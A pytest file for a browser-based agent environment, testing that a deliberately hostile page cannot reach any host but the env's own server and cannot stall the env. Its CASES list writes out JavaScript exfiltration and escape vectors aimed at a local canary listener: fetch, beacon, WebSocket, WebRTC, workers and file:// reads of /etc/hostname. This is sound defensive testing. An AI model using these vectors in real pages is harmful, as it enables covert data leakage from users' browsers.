"""A hostile page cannot reach anything but the env's own server, and cannot stall the env.

Everything here stays on this machine: the page aims at a canary listener on a free 127.0.0.1
port (TCP, and UDP for STUN and WebTransport), host names are mapped onto that canary (a DNS
that points at it), and the canary must receive nothing, not even a TCP connect. Every attempt
the page makes must be reported in the step's ``last_action_error`` and in
``info["blocked_requests"]``. Hung pages and a stopped browser must cost at most the configured
limit, and no process of the env (counted by pid from /proc) or temp folder may be left.

``pytest tests/envs/test_containment.py -s`` prints the figures recorded in docs/reliability.md.
"""

from __future__ import annotations

import gc
import os
import random
import signal
import socket
import threading
import time
from pathlib import Path
from typing import Any, Iterator

import gymnasium
import pytest
from conftest import center

import envs
from envs.config import CHROMIUM_ARGS, WebEnvConfig
from envs.tasks import PageTask, register_task

pytestmark = [pytest.mark.browser, pytest.mark.timeout(120)]

TASK = "containment"
FIGURES: dict[str, Any] = {"cases": 0, "passed": 0, "worst_step_s": 0.0, "processes_left": 0, "folders_left": 0}

# Each case: (button id, JS run on click, what must be reported: substrings of blocked URLs).
# C is the canary's http origin, WS its ws origin, U its UDP port.
CASES: list[tuple[str, str, tuple[str, ...]]] = [
    ("location", "location.href = C + '/location'", ("/location",)),
    ("iframe", "add('iframe', {src: C + '/iframe'})", ("/iframe",)),
    ("form", "const f = add('form', {method: 'post', action: C + '/form'}); f.submit()", ("/form",)),
    ("meta", "add('meta', {httpEquiv: 'refresh', content: '0;url=' + C + '/meta'})", ("/meta",)),
    ("popup", "window.open(C + '/popup')", ("/popup",)),
    ("fetch", "fetch(C + '/fetch', {method: 'POST', body: 'x'}).catch(() => 0)", ("/fetch",)),
    ("xhr", "const x = new XMLHttpRequest(); x.open('GET', C + '/xhr'); x.send()", ("/xhr",)),
    ("img", "add('img', {src: C + '/img'})", ("/img",)),
    ("script", "add('script', {src: C + '/script'})", ("/script",)),
    ("css", "add('link', {rel: 'stylesheet', href: C + '/css'})", ("/css",)),
    ("beacon", "navigator.sendBeacon(C + '/beacon', 'x')", ("/beacon",)),
    ("eventsource", "new EventSource(C + '/es')", ("/es",)),
    ("websocket", "new WebSocket(WS + '/ws')", ("/ws",)),
    ("websocket_own", "new WebSocket('ws://' + location.host + '/own-ws')", ("/own-ws",)),
    ("https", "location.href = 'https://example.com/'", ("https://example.com/",)),
    ("https_fetch", "fetch('https://example.com/x').catch(() => 0)", ("https://example.com/x",)),
    ("hints", "add('link', {rel: 'preconnect', href: C + '/'}); add('link', {rel: 'dns-prefetch', href: "
              "'https://prefetch.example/'}); add('link', {rel: 'prefetch', href: C + '/prefetch'}); "
              "const s = add('script', {type: 'speculationrules'}); "
              "s.textContent = JSON.stringify({prerender: [{source: 'list', urls: [C + '/prerender']}]})",
     ("/prefetch",)),
    ("worker", "new Worker(URL.createObjectURL(new Blob([`fetch('${C}/worker').catch(() => 0)`])))",
     ("/worker",)),
    ("shared_worker", "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${C}/shared').catch(() => 0)`])))",
     ("/shared",)),  # passes no routing: the proxy's refusal is what is reported
    ("file_nav", "location.href = 'file:///etc/hostname'", ("file:///etc/hostname",)),
    ("file_fetch", "fetch('file:///etc/hostname').catch(() => 0)", ("file:///etc/hostname",)),
    ("file_iframe", "add('iframe', {src: 'file:///etc/hostname'})", ("file:///etc/hostname",)),
    ("blob_nav", "location.href = URL.createObjectURL(new Blob(['<p>x</p>'], {type: 'text/html'}))",
     ("blob:",)),
    ("about_nav", "location.href = 'about:blank'", ("about:blank",)),
    ("data_nav", "location.href = 'data:text/html,<p>x</p>'", ("data:text/html",)),
    ("about_popup", "window.open('about:blank')", ()),  # reported as a closed pop-up
    ("rtc", "const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + U}]}); "
            "pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o))",
     ("RTCPeerConnection(stun:127.0.0.1:",)),  # refused in the page (envs.page_guard)
    ("webtransport", "try { new WebTransport('https://127.0.0.1:' + U + '/wt'); } catch (e) {}", ()),
]
SILENT = {"rtc", "webtransport"}  # UDP: what matters is that no datagram leaves (WebTransport is not reported)

PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8">
<script src="/episode/spec.js"></script><script src="/static/catp.js"></script>
<style>button { font-size: 11px; margin: 1px; padding: 1px 3px; }</style></head>
<body><div id="cases"></div>
<a id="link">link</a> <a id="ping">ping</a> <button id="goal">Goal</button>
<button id="spin" onclick="while (true) {}">Spin</button>
<button id="storm">Storm</button> <button id="flood">Flood</button>
<script>
const C = 'http://127.0.0.1:' + CATP.spec.canary, WS = 'ws://127.0.0.1:' + CATP.spec.canary, U = CATP.spec.udp;
const add = (tag, attrs) => { const el = Object.assign(document.createElement(tag), attrs);
  (['link', 'meta'].includes(tag) ? document.head : document.body).appendChild(el); return el; };
document.getElementById('link').href = C + '/link';
const ping = document.getElementById('ping'); ping.href = '#pinged'; ping.setAttribute('ping', C + '/ping');
document.getElementById('goal').onclick = () => { CATP.state.goal = true; };
const burst = (n) => { for (let i = 0; i < n; i++) { fetch(C + '/storm').catch(() => 0); new Image().src = C + '/storm-img'; } };
document.getElementById('storm').onclick = () => setInterval(() => burst(2), 20);
document.getElementById('flood').onclick = () => setInterval(() => burst(20), 1);
const CASES = __CASES__;
for (const [name, run] of Object.entries(CASES)) {
  const b = document.createElement('button'); b.id = name; b.textContent = name; b.onclick = run;
  document.getElementById('cases').appendChild(b);
}
if (CATP.spec.spin_on_load) { while (true) {} }
</script></body></html>
"""


class Canary:
    """A TCP listener and a UDP socket on free 127.0.0.1 ports that record whatever arrives."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.port, self.udp_port = self.tcp.getsockname()[1], self.udp.getsockname()[1]
        self.connections: list[bytes] = []
        self.datagrams: list[bytes] = []
        for target in (self._accept, self._receive):
            threading.Thread(target=target, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.tcp.accept()
            except OSError:
                return
            conn.settimeout(0.5)
            try:
                data = conn.recv(4096)
            except OSError:
                data = b""
            self.connections.append(data)  # even a bare connect counts
            conn.close()

    def _receive(self) -> None:
        while True:
            try:
                self.datagrams.append(self.udp.recv(65536))
            except OSError:
                return

    @property
    def bytes(self) -> int:
        return sum(len(d) for d in self.connections + self.datagrams)

    @property
    def hits(self) -> int:
        return len(self.connections) + len(self.datagrams)

    def close(self) -> None:
        self.tcp.close()
        self.udp.close()


def _processes(env: gymnasium.Env, driver: bool = True) -> set[tuple[int, int]]:
    """(pid, start time) of every live process of the env's browser (and its Playwright driver),
    found from /proc without the env's help: the driver's process tree, the browser's process
    group, and processes that carry the env's TMPDIR (Chromium's crash handler leaves both the
    tree and the group)."""
    session = env.unwrapped._session
    pid = env.unwrapped._call(session.browser_pid)
    marker = f"TMPDIR={session.processes.root}".encode()
    table = {}
    for name in os.listdir("/proc"):
        try:
            stat = Path(f"/proc/{name}/stat").read_bytes()
        except (OSError, ValueError):
            continue
        fields = stat[stat.rfind(b")") + 2:].split()
        if name.isdigit() and fields[0] not in (b"Z", b"X"):
            table[int(name)] = (int(fields[1]), int(fields[2]), int(fields[19]))
    node = table[pid][0]
    found = {node}
    todo = [node]
    while todo:
        parent = todo.pop()
        kids = [p for p, (ppid, _, _) in table.items() if ppid == parent]
        found.update(kids)
        todo.extend(kids)
    found.update(p for p, (_, pgrp, _) in table.items() if pgrp == pid)
    for p in table:
        try:
            if marker in Path(f"/proc/{p}/environ").read_bytes().split(b"\0"):
                found.add(p)
        except OSError:
            continue
    if not driver:
        found.discard(node)
    return {(p, table[p][2]) for p in found if p in table}


def _alive(procs: set[tuple[int, int]]) -> set[int]:
    alive = set()
    for pid, start in procs:
        try:
            fields = Path(f"/proc/{pid}/stat").read_bytes()
        except OSError:
            continue
        fields = fields[fields.rfind(b")") + 2:].split()
        if fields[0] not in (b"Z", b"X") and int(fields[19]) == start:
            alive.add(pid)
    return alive


def _gone_within(procs: set[tuple[int, int]], seconds: float) -> set[int]:
    deadline = time.monotonic() + seconds
    while (left := _alive(procs)) and time.monotonic() < deadline:
        time.sleep(0.05)
    return left


# ------------------------------------------------------------------------------------ fixtures
@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    listener = Canary()
    yield listener
    listener.close()


@pytest.fixture(scope="module")
def task_id(restored_registries: None, canary: Canary, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Register the hostile task and undo it afterwards, so that other tests' registries stay as
    they were."""
    folder = tmp_path_factory.mktemp("containment")
    cases = ", ".join(f"{name}: () => {{ {js}; }}" for name, js, _ in CASES)
    (folder / "index.html").write_text(PAGE.replace("__CASES__", "{" + cases + "}"), encoding="utf-8")

    class HostileNetworkTask(PageTask):
        name = TASK
        pages_dir = folder

        def generate(self, rng: random.Random) -> dict[str, Any]:
            # Seed 666 hangs while loading (an inline busy loop): for the reset tests.
            return {"canary": canary.port, "udp": canary.udp_port, "spin_on_load": self.seed == 666}

        def start(self, session: Any, seed: int) -> str:
            self.seed = seed
            return super().start(session, seed)

        def instruction(self, spec: dict[str, Any]) -> str:
            return "Click Goal."

        def is_success(self, state: dict[str, Any], spec: dict[str, Any]) -> bool:
            return bool(state.get("goal"))

    register_task(HostileNetworkTask)
    yield envs.register_env(TASK, max_steps=50)


def _make(task_id: str, canary: Canary, **kwargs: Any) -> gymnasium.Env:
    # Every host name resolves to the canary: whatever escaped the proxy by name would land there.
    args = tuple(a for a in CHROMIUM_ARGS if not a.startswith("--host-resolver-rules"))
    args += (f"--host-resolver-rules=MAP * 127.0.0.1:{canary.port} , EXCLUDE 127.0.0.1",)
    return gymnasium.make(task_id, chromium_args=args, **kwargs)


@pytest.fixture(scope="module")
def env(task_id: str, canary: Canary) -> Iterator[gymnasium.Env]:
    env = _make(task_id, canary)
    yield env
    env.close()


@pytest.fixture(scope="module", autouse=True)
def figures(canary: Canary) -> Iterator[dict[str, Any]]:
    yield FIGURES
    FIGURES["canary_connections"], FIGURES["canary_bytes"] = canary.hits, canary.bytes
    rows = [
        ("hostile cases tried", FIGURES["cases"]),
        ("hostile cases passed (reported, nothing reached the canary)", FIGURES["passed"]),
        ("connections / datagrams that reached the canary", FIGURES["canary_connections"]),
        ("bytes that reached the canary", FIGURES["canary_bytes"]),
        ("requests the proxy refused (page and browser)", FIGURES.get("proxy_refused", "-")),
        ("worst step time under a busy-loop page (limit 8 s)", f"{FIGURES['worst_step_s']:.2f} s"),
        ("step time with a stopped browser (limit 3 s)", f"{FIGURES.get('stopped_step_s', 0):.2f} s"),
        ("worst step time under a request flood (limit 3 s)", f"{FIGURES.get('flood_step_s', 0):.2f} s"),
        ("reset time on a page that hangs while loading (limit 3 s)", f"{FIGURES.get('hung_reset_s', 0):.2f} s"),
        ("close() during a hung step", f"{FIGURES.get('close_during_hang_s', 0):.2f} s"),
        ("fuzzed actions / episodes ended as a browser failure",
         f"{FIGURES.get('fuzzed_actions', 0)} / {FIGURES.get('fuzz_failures', 0)}"),
        ("processes left after close / kill / gc", FIGURES["processes_left"]),
        ("temp folders left", FIGURES["folders_left"]),
    ]
    print("\n\n| reliability figure | value |\n|---|---|")
    for name, value in rows:
        print(f"| {name} | {value} |")


def _click(info: dict[str, Any], element_id: str) -> str:
    el = next(e for e in info["elements"] if e.get("id") == element_id)
    return "click(%d, %d)" % center(el["bbox"])


# --------------------------------------------------------------------------- network containment
@pytest.mark.parametrize("case", [name for name, _, _ in CASES] + ["link", "ping"])
def test_hostile_request_is_reported_and_never_leaves(env: gymnasium.Env, canary: Canary, case: str) -> None:
    expected = next((want for name, _, want in CASES if name == case), (f"/{case}",))
    FIGURES["cases"] += 1
    hits = canary.hits
    obs, info = env.reset(seed=1)
    errors = []
    obs, reward, terminated, truncated, info = env.step(_click(info, case))
    errors.append(obs["last_action_error"])
    for _ in range(3):  # let requests started by timers and workers land
        if all(any(w in u for u in info["blocked_requests"]) for w in expected) and errors[-1]:
            break
        time.sleep(0.2)
        obs, reward, terminated, truncated, info = env.step("scroll(0, 0)")
        errors.append(obs["last_action_error"])
    assert not terminated, info.get("error")
    for want in expected:
        assert any(want in url for url in info["blocked_requests"]), (case, info["blocked_requests"])
        assert want in " ".join(errors), (case, errors)
    if case == "about_popup":
        assert info["closed_popups"] == ["about:blank"] and "closed pop-up about:blank" in " ".join(errors)
    if case in SILENT:
        time.sleep(0.5)
    assert canary.hits == hits, (case, canary.connections[hits:], canary.datagrams)
    FIGURES["passed"] += 1


def test_request_storm_during_close_never_leaves(task_id: str, canary: Canary) -> None:
    hits = canary.hits
    env = _make(task_id, canary)
    obs, info = env.reset(seed=1)
    obs, reward, terminated, truncated, info = env.step(_click(info, "storm"))
    obs, reward, terminated, truncated, info = env.step("scroll(0, 0)")
    assert "/storm" in obs["last_action_error"]
    env.close()  # while the page keeps firing requests
    time.sleep(0.5)
    assert canary.hits == hits, canary.connections[hits:]


def test_the_browsers_own_requests_end_at_the_proxy(env: gymnasium.Env, canary: Canary) -> None:
    obs, info = env.reset(seed=1)
    obs, *_ = env.step(_click(info, "goal"))
    proxy = env.unwrapped._session.proxy
    FIGURES["proxy_refused"] = len(proxy.refused)
    assert proxy.connections >= len(proxy.refused) > 0  # preconnects, tunnels, update checks
    assert canary.hits == 0 and canary.bytes == 0


def test_containment_flags_cannot_be_overridden_and_limits_are_ordered() -> None:
    assert "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1" in CHROMIUM_ARGS
    for flag in ("--proxy-server=direct://", "--no-proxy-server", "--proxy-bypass-list=*",
                 "--webrtc-ip-handling-policy=default", "--user-data-dir=/tmp/x"):
        with pytest.raises(ValueError, match=flag.split("=")[0]):
            WebEnvConfig(chromium_args=CHROMIUM_ARGS + (flag,))
    with pytest.raises(ValueError, match="action_timeout_ms .* below step_timeout_ms"):
        WebEnvConfig(step_timeout_ms=4000)
    with pytest.raises(ValueError, match="navigation_timeout_ms .* below reset_timeout_ms"):
        WebEnvConfig(reset_timeout_ms=10_000)
    with pytest.raises(ValueError, match="step_timeout_ms must be an int"):
        WebEnvConfig(step_timeout_ms=True)


# -------------------------------------------------------------------------- hangs and leftovers
def _assert_nothing_left(procs: set[tuple[int, int]], files: list[Path]) -> None:
    left = _gone_within(procs, 3.0)
    folders = [f for f in files if f.exists()]
    FIGURES["processes_left"] += len(left)
    FIGURES["folders_left"] += len(folders)
    assert not left, f"processes left: {sorted(left)}"
    assert not folders, f"folders left: {folders}"


def _timed(fn: Any, *args: Any) -> tuple[Any, float]:
    start = time.monotonic()
    result = fn(*args)
    return result, time.monotonic() - start


def test_busy_loop_page_costs_at_most_the_step_limit(env: gymnasium.Env) -> None:
    """The default limit (step_timeout_ms=8000): the step returns in under 10 s."""
    obs, info = env.reset(seed=1)
    hung = _processes(env, driver=False)
    (obs, reward, terminated, truncated, info), took = _timed(env.step, _click(info, "spin"))
    FIGURES["worst_step_s"] = max(FIGURES["worst_step_s"], took)
    assert took < 10.0 and terminated and reward == 0.0
    assert "did not answer within 8 s" in info["error"] and "did not answer" in obs["last_action_error"]
    left = _gone_within(hung, 1.0)
    FIGURES["processes_left"] += len(left)
    assert not left, "the hung browser's processes must be dead when the step returns"
    obs, reward, terminated, truncated, info = env.step("click(1, 1)")  # the episode is over
    assert terminated and "did not answer" in obs["last_action_error"]
    (obs, info), took = _timed(lambda: env.reset(seed=1))
    assert took < 5.0 and "error" not in info  # a fresh browser, in a few seconds
    obs, reward, terminated, truncated, info = env.step(_click(info, "goal"))
    assert reward == 1.0 and terminated


def test_stopped_browser_and_event_flood_cost_at_most_the_step_limit(task_id: str, canary: Canary) -> None:
    hits = canary.hits
    env = _make(task_id, canary, step_timeout_ms=3000, action_timeout_ms=2000)
    try:
        obs, info = env.reset(seed=1)
        procs, files = _processes(env, driver=False), env.unwrapped._session.processes.files()
        os.kill(env.unwrapped._call(env.unwrapped._session.browser_pid), signal.SIGSTOP)
        (obs, reward, terminated, truncated, info), took = _timed(env.step, "scroll(0, 10)")
        FIGURES["stopped_step_s"] = took
        assert took < 5.0 and terminated and "did not answer within 3 s" in info["error"]
        assert not _gone_within(procs, 1.0)
        # A page that floods the env with blocked requests: at worst a hang, within the limit.
        obs, info = env.reset(seed=1)
        procs |= _processes(env)
        for action in (_click(info, "flood"), "scroll(0, 10)"):
            (obs, reward, terminated, truncated, info), took = _timed(env.step, action)
            FIGURES["flood_step_s"] = max(FIGURES.get("flood_step_s", 0.0), took)
            assert took < 5.5 and (not terminated or "did not answer" in info["error"])
        obs, info = env.reset(seed=1)
        obs, reward, terminated, truncated, info = env.step(_click(info, "goal"))
        assert reward == 1.0
        procs |= _processes(env)
    finally:
        _, took = _timed(env.close)
    assert took < 3.0 and canary.hits == hits
    _assert_nothing_left(procs, files)


def test_failed_first_reset_leaves_the_env_usable(task_id: str, canary: Canary) -> None:
    """The first reset hangs while loading; gymnasium's checker must not be poisoned by it."""
    env = _make(task_id, canary, navigation_timeout_ms=1500, reset_timeout_ms=3000)
    try:
        (obs, info), took = _timed(lambda: env.reset(seed=666))
        FIGURES["hung_reset_s"] = took
        assert took < 5.0 and "could not start" in info["error"] and obs["last_action_error"]
        assert env.observation_space.contains(obs)
        obs, reward, terminated, truncated, info = env.step("click(1, 1)")
        assert terminated and "could not start" in obs["last_action_error"]
        obs, info = env.reset(seed=1)
        assert "error" not in info
        for action in ("scroll(0, 5)", _click(info, "goal")):
            obs, reward, terminated, truncated, info = env.step(action)
        assert reward == 1.0 and terminated
        procs, files = _processes(env), env.unwrapped._session.processes.files()
    finally:
        env.close()
    _assert_nothing_left(procs, files)


def test_close_during_a_hung_step_takes_seconds(task_id: str, canary: Canary) -> None:
    env = _make(task_id, canary)
    obs, info = env.reset(seed=1)
    procs, files = _processes(env), env.unwrapped._session.processes.files()
    result: list[Any] = []
    stepper = threading.Thread(target=lambda: result.append(env.step(_click(info, "spin"))), daemon=True)
    stepper.start()
    time.sleep(1.0)
    _, took = _timed(env.close)
    FIGURES["close_during_hang_s"] = took
    stepper.join(5.0)
    assert took < 3.0 and not stepper.is_alive() and result[0][2]  # the step ended its episode
    _assert_nothing_left(procs, files)


def _dropped_env(task_id: str, canary: Canary) -> tuple[set[tuple[int, int]], list[Path]]:
    env = _make(task_id, canary)
    env.reset(seed=1)
    return _processes(env), env.unwrapped._session.processes.files()


def test_env_dropped_without_close_ends_its_browser(task_id: str, canary: Canary) -> None:
    procs, files = _dropped_env(task_id, canary)
    gc.collect()
    _assert_nothing_left(procs, files)


# ------------------------------------------------------------------------------ fuzzed actions
def _fuzzed_actions(count: int, seed: int = 0) -> list[str]:
    """Well-formed calls with oversize or odd numbers, garbage, and near misses."""
    rng = random.Random(seed)
    numbers = ["9" * 4301, "1e400", "-1e309", "1" * 33, "0." + "0" * 500 + "1", "1e9", "-1000000001",
               "nan", "inf", "0x10", "1_000", "\u0663", "5", "-0", ".5", "1e-400", "99999999999999999999"]
    names = ["click", "double_click", "scroll", "type", "press", "done", "hover", ""]
    out = []
    for _ in range(count):
        kind = rng.random()
        if kind < 0.6:
            args = ", ".join(rng.choice(numbers) for _ in range(rng.randint(0, 3)))
            out.append(f"{rng.choice(names)}({args})" + " " * rng.choice([0, 0, 3000]) + rng.choice(["", ";", "x"]))
        elif kind < 0.8:
            out.append(f'{rng.choice(["type", "press"])}("{"".join(chr(rng.randint(1, 0x2FFF)) for _ in range(rng.randint(0, 80)))}")')
        else:
            out.append("".join(rng.choice("click(),.e9-\"'\\ =xy") for _ in range(rng.randint(0, 60))))
    return out


def test_fuzzed_actions_never_end_the_episode(env: gymnasium.Env) -> None:
    actions = _fuzzed_actions(150)
    obs, info = env.reset(seed=1)
    failures = []
    for action in actions:
        obs, reward, terminated, truncated, info = env.step(action)
        if "error" in info:
            failures.append((action[:60], info["error"]))
        if terminated or truncated:
            obs, info = env.reset(seed=1)
    FIGURES["fuzzed_actions"], FIGURES["fuzz_failures"] = len(actions), len(failures)
    assert not failures


def test_temp_folders_of_killed_processes_are_swept(tmp_path: Path) -> None:
    """A Python process killed with SIGKILL cannot remove its env's temp folder; the next env
    started on the machine removes every such folder whose owner (pid and start time) is gone."""
    import tempfile

    from envs.worker import BrowserProcesses

    orphan = Path(tempfile.gettempdir()) / f"{BrowserProcesses.ROOT_PREFIX}999999999-1-test"
    orphan.mkdir()
    processes = BrowserProcesses()
    try:
        assert not orphan.exists() and processes.root.is_dir()
        assert processes.root.name.startswith(f"{BrowserProcesses.ROOT_PREFIX}{os.getpid()}-")
    finally:
        processes.remove_files()
    assert not processes.root.exists()
